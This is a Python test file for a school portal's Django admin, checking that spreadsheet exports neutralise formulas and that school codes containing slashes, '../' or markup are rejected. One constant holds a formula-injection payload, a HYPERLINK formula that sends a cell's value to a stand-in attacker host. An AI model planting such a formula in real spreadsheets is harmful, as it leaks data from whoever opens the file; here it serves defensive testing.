"""The admin's django-import-export: formulas neutralised on export, uploads through the one gate; school
codes limited to letters, digits, «-», «_», «.» (issue 15, item 8)."""

import io

import pytest
import tablib
from django.contrib import admin
from django.core.exceptions import ValidationError
from import_export.admin import ImportExportMixinBase
from openpyxl import load_workbook

from schools.admin import PortalXLSX
from schools.importing import run_import
from schools.models import School
from schools.validators import validate_school_code
from tests.factories import SchoolFactory
from tests.schools.test_imports import SCHOOL_HEADER, school_row

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Школа")'


def test_an_admin_export_writes_formulas_as_text():
    dataset = tablib.Dataset(["0101", HYPERLINK, "+7 000"], headers=["code", "name", "phone"])
    sheet = load_workbook(io.BytesIO(PortalXLSX().export_data(dataset))).active
    assert [cell.value for cell in sheet[2]] == ["0101", "'" + HYPERLINK, "'+7 000"]
    assert sheet["B2"].data_type == "s"


def test_every_admin_with_import_export_uses_the_safe_format(rf):
    portal_admins = [a for a in admin.site._registry.values() if isinstance(a, ImportExportMixinBase)]
    assert len(portal_admins) >= 3  # schools, contexts, results
    for model_admin in portal_admins:
        assert model_admin.formats == [PortalXLSX], type(model_admin).__name__


@pytest.mark.parametrize("code", ["01/02", "01 02", "0101?", "../0101", "<b>"])
def test_a_school_code_with_other_characters_is_refused_naming_the_row_and_value(db, make_xlsx, code):
    file = make_xlsx([SCHOOL_HEADER, school_row(code="0100"), school_row(code=code)])
    summary = run_import(kind="schools", file=file, file_name="школы.xlsx")
    assert summary.errors == [
        {
            "row": 3,
            "column": "Код ОО",
            "message": "допускаются только буквы, цифры, дефис, подчёркивание и точка",
            "value": code,
        }
    ]
    assert not School.objects.exists()


@pytest.mark.parametrize("code", ["0101", "А-12", "sch_7.2", "24.001"])
def test_ordinary_codes_pass(code):
    validate_school_code(code)


def test_the_model_and_its_forms_refuse_a_slash(db):
    school = SchoolFactory.build(code="01/02")
    with pytest.raises(ValidationError) as error:
        school.full_clean(exclude=["municipality"])
    assert error.value.message_dict["code"] == [
        "Код ОО «01/02» не подходит: допускаются только буквы, цифры, дефис, подчёркивание и точка."
    ]
